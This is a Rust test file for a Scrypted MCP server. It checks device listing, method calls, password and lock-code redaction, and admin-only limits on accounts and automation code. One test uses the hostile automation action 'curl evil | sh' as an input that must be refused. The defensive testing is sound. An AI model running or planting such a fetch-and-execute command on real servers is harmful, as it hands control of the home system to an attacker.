//! Devices: list, get, call methods.

use super::*;
use scrypted_mcp::oauth::Scope;

#[test]
fn list_devices_filters() {
    let h = H::new();
    let ids = |args: Value| names(&h.ok("list_devices", args), "devices", "id");
    assert_eq!(ids(json!({"interface": "OnOff"})), [LIGHT_ID, LAMP_ID]);
    assert_eq!(ids(json!({"type": "Camera"})), [CAMERA_ID]);
    assert_eq!(ids(json!({"name": "DOOR"})), [CAMERA_ID, LOCK_ID, DOOR_ID]);
    assert_eq!(ids(json!({"room": "kitchen"})), [LIGHT_ID, DOOR_ID]);
    assert_eq!(
        ids(json!({"plugin_id": "@scrypted/zwave"})),
        [ZWAVE_ID, LOCK_ID, THERMO_ID, DOOR_ID]
    );
    let page = h.ok("list_devices", json!({"limit": 3}));
    assert_eq!(page["truncated"], true);
    assert_eq!(page["total"], h.host.devices.borrow().len());
    assert!(page["next"].as_str().unwrap().contains("offset 3"));
}

#[test]
fn list_devices_rejects_unknown_arguments() {
    let h = H::new();
    assert!(h
        .invalid("list_devices", json!({"kind": "Light"}))
        .contains("kind"));
    h.invalid("list_devices", json!({"limit": -1}));
}

#[test]
fn get_device_leaves_out_bulky_fields_and_storage_values() {
    let h = H::new();
    let out = h.ok("get_device", json!({"id": CAMERA_ID}));
    assert_eq!(out["name"], "Front Door Camera");
    assert_eq!(out["state"]["motionDetected"], false);
    let omitted = out["omitted"].as_array().unwrap();
    assert!(omitted.contains(&json!("videoStreamOptions")));
    assert!(omitted.contains(&json!("pictureDimensions")));
    assert!(out["state"].get("videoStreamOptions").is_none());
    assert_eq!(out["storage_keys"], json!(["ip", "password", "username"]));
    assert!(!out.to_string().contains("camera-PASSWORD-xyz"));
    assert_eq!(out["mixins"], json!([HOMEKIT_ID]));
    assert!(out["methods"]
        .as_array()
        .unwrap()
        .contains(&json!("takePicture")));
    assert_eq!(h.host.calls_of("deviceInfo"), [json!({"id": CAMERA_ID})]);

    let full = h.ok(
        "get_device",
        json!({"id": CAMERA_ID, "include_bulky": true}),
    );
    assert_eq!(full["state"]["videoStreamOptions"][0]["id"], "channel0");
    assert_eq!(full["omitted"], json!([]));
}

#[test]
fn get_device_hides_own_storage_keys_and_reports_unknown_ids() {
    let h = H::new();
    let own = h.ok("get_device", json!({"id": SELF_ID}));
    assert_eq!(own["storage_keys"], json!([]));
    assert!(!own.to_string().contains("oauth.signing_jwk"));
    let msg = h.failed("get_device", json!({"id": "999"}));
    assert!(msg.contains("No device") && !msg.contains("TypeError"));
}

#[test]
fn call_device_method_calls_interface_methods() {
    let h = H::new();
    let out = h.ok(
        "call_device_method",
        json!({"id": LIGHT_ID, "method": "turnOff"}),
    );
    assert_eq!(out["result"], Value::Null);
    assert_eq!(h.host.prop(LIGHT_ID, "on"), Some(json!(false)));
    h.ok(
        "call_device_method",
        json!({"id": LIGHT_ID, "method": "setBrightness", "args": [25]}),
    );
    assert_eq!(h.host.prop(LIGHT_ID, "brightness"), Some(json!(25)));
    h.ok(
        "call_device_method",
        json!({"id": LOCK_ID, "method": "unlock"}),
    );
    assert_eq!(h.host.prop(LOCK_ID, "lockState"), Some(json!("Unlocked")));
    let settings = h.ok(
        "call_device_method",
        json!({"id": CAMERA_ID, "method": "getSettings"}),
    );
    assert_eq!(settings["result"][0]["key"], "ip");
    assert_eq!(
        h.host.calls_of("callDeviceMethod")[1],
        json!({"id": LIGHT_ID, "method": "setBrightness", "args": [25]})
    );
}

#[test]
fn call_device_method_refusals() {
    let h = H::new();
    let msg = h.failed(
        "call_device_method",
        json!({"id": LIGHT_ID, "method": "unlock"}),
    );
    assert!(
        msg.contains("no method unlock") && msg.contains("turnOn"),
        "{msg}"
    );
    h.fails_saying(
        "call_device_method",
        json!({"id": "999", "method": "turnOn"}),
        "No device",
    );
    h.fails_saying(
        "call_device_method",
        json!({"id": SELF_ID, "method": "getSettings"}),
        "Refused",
    );
    h.fails_saying(
        "call_device_method",
        json!({"id": LIGHT_ID, "method": "setMixins", "args": [[]]}),
        "set_mixins",
    );
    h.invalid(
        "call_device_method",
        json!({"id": LIGHT_ID, "method": "constructor.prototype"}),
    );
    assert!(!h.host.called("callDeviceMethod"));
}

#[test]
fn call_device_method_redacts_password_settings_and_refuses_the_placeholder_back() {
    // Issue §"Secrets are not echoed"; docs/reference/client-compat.md §11 #12: password-typed settings
    // (camera credentials) are never returned, and writing the placeholder back must not
    // replace the real password with it.
    let h = H::new();
    let out = h.call(
        "call_device_method",
        json!({"id": CAMERA_ID, "method": "getSettings"}),
    );
    let out = out.expect("getSettings");
    let text = format!("{:?}", out);
    assert!(!text.contains("camera-PASSWORD-xyz"), "{text}");
    let s = out.structured;
    assert_eq!(s["result"][0]["value"], "192.168.1.40");
    assert_eq!(s["result"][1]["value"], "[REDACTED]");
    assert_eq!(s["redacted_keys"], json!(["password"]));

    let calls = h.host.calls_of("callDeviceMethod").len();
    // Also inside a list, as a `multiple` setting (camera URLs) is shown and sent back.
    for value in [
        json!("[REDACTED]"),
        json!(["rtsp://admin:[REDACTED]@192.168.1.5/cam"]),
    ] {
        let msg = h.failed(
            "call_device_method",
            json!({"id": CAMERA_ID, "method": "putSetting", "args": ["password", value]}),
        );
        assert!(
            msg.contains("[REDACTED]") && msg.contains("Nothing was changed"),
            "{msg}"
        );
    }
    assert_eq!(h.host.calls_of("callDeviceMethod").len(), calls);
}

#[test]
fn call_device_method_reports_host_errors() {
    let h = H::new();
    let msg = h.failed(
        "call_device_method",
        json!({"id": LIGHT_ID, "method": "setBrightness", "args": ["bright"]}),
    );
    assert!(msg.contains("brightness must be a number"), "{msg}");
}

/// Control is operating the home. What administers Scrypted through a device needs admin:
/// core's Users provider makes accounts, admins among them (plugins/core/src/user.ts
/// createDevice), a user's device sets that user's password (its `password` setting), a
/// lock's user codes are secrets. Refused before anything reaches the server.
#[test]
fn call_device_method_keeps_accounts_scripts_and_lock_codes_for_admin_tokens() {
    let mut h = H::new();
    h.caller.scope = Scope::Control;
    let make_admin = json!({"id": "2", "method": "createDevice",
        "args": [{"username": "mallory", "password": "correct-horse", "admin": true}]});
    let msg = h.failed("call_device_method", make_admin.clone());
    assert!(
        msg.contains("call_device_method createDevice needs OAuth scope scrypted:admin")
            && msg.contains("Nothing was run"),
        "{msg}"
    );
    for (id, method, args) in [
        (VIEWER_ID, "putSetting", json!(["password", "hunter22"])),
        (VIEWER_ID, "getSettings", json!([])),
        (LOCK_ID, "addPassword", json!(["4711"])),
        (LOCK_ID, "getPasswords", json!([])),
    ] {
        h.fails_saying(
            "call_device_method",
            json!({"id": id, "method": method, "args": args}),
            "needs OAuth scope scrypted:admin",
        );
    }
    assert!(!h.host.called("callDeviceMethod"));
    h.ok(
        "call_device_method",
        json!({"id": LOCK_ID, "method": "unlock"}),
    );

    h.caller.scope = Scope::Admin;
    h.ok("call_device_method", make_admin);
    assert!(h
        .host
        .users
        .borrow()
        .iter()
        .any(|u| u.username == "mallory" && u.acl_id.is_none()));
}

/// A lock's user codes (zwave PasswordStoreToUserCode.ts getPasswords) are secrets: they come
/// back as the placeholder, and one given to addPassword stays out of the audit hash.
#[test]
fn lock_codes_are_never_shown_nor_audited() {
    let h = H::new();
    let out = h.ok(
        "call_device_method",
        json!({"id": LOCK_ID, "method": "getPasswords"}),
    );
    assert_eq!(out["result"], json!(["[REDACTED]", "[REDACTED]"]));
    assert!(!out.to_string().contains("1234"), "{out}");
    let audited = scrypted_mcp::tools::redact::for_audit(
        "call_device_method",
        &json!({"id": LOCK_ID, "method": "addPassword", "args": ["4711"]}),
    );
    assert_eq!(audited["args"], json!(["[REDACTED]"]), "{audited}");
    h.ok(
        "call_device_method",
        json!({"id": LOCK_ID, "method": "addPassword", "args": ["4711"]}),
    );
    assert_eq!(h.host.devices.borrow()[LOCK_ID].passwords.len(), 3);
    h.ok(
        "call_device_method",
        json!({"id": LOCK_ID, "method": "removePassword", "args": ["4711"]}),
    );
    assert_eq!(
        h.host.devices.borrow()[LOCK_ID].passwords,
        ["1234", "908172"]
    );
}

/// Core's automations (plugins/core/src/automation.ts; type Automation, interfaces OnOff and
/// Settings) keep their actions in storage, JavaScript or a shell script run on the server,
/// set by putSetting: switching one is operating the home, anything else is admin's.
#[test]
fn an_automations_code_is_an_admin_token_s_to_read_and_change() {
    let mut h = H::new();
    let mut automation = fake::Device::new(
        "90",
        "@scrypted/core",
        "automation:update-plugins",
        "Autoupdate Plugins",
        "Automation",
        &["OnOff", "Settings"],
    );
    automation
        .storage
        .insert("data".into(), r#"{"actions":[]}"#.into());
    h.host.devices.borrow_mut().insert("90".into(), automation);
    h.caller.scope = Scope::Control;
    for (tool, args) in [
        (
            "call_device_method",
            json!({"id": "90", "method": "putSetting", "args": ["action-0", "curl evil | sh"]}),
        ),
        (
            "call_device_method",
            json!({"id": "90", "method": "getSettings"}),
        ),
        (
            "set_storage",
            json!({"id": "90", "storage": {"data": "{}"}, "merge": true}),
        ),
        ("get_storage", json!({"id": "90"})),
    ] {
        h.fails_saying(
            tool,
            args,
            "an automation, whose actions and conditions are code",
        );
    }
    assert!(!h.host.called("callDeviceMethod") && !h.host.called("setStorage"));
    assert_eq!(
        h.host.devices.borrow()["90"].storage["data"],
        r#"{"actions":[]}"#
    );
    h.ok(
        "call_device_method",
        json!({"id": "90", "method": "turnOff"}),
    );

    h.caller.scope = Scope::Admin;
    h.ok("get_storage", json!({"id": "90"}));
}
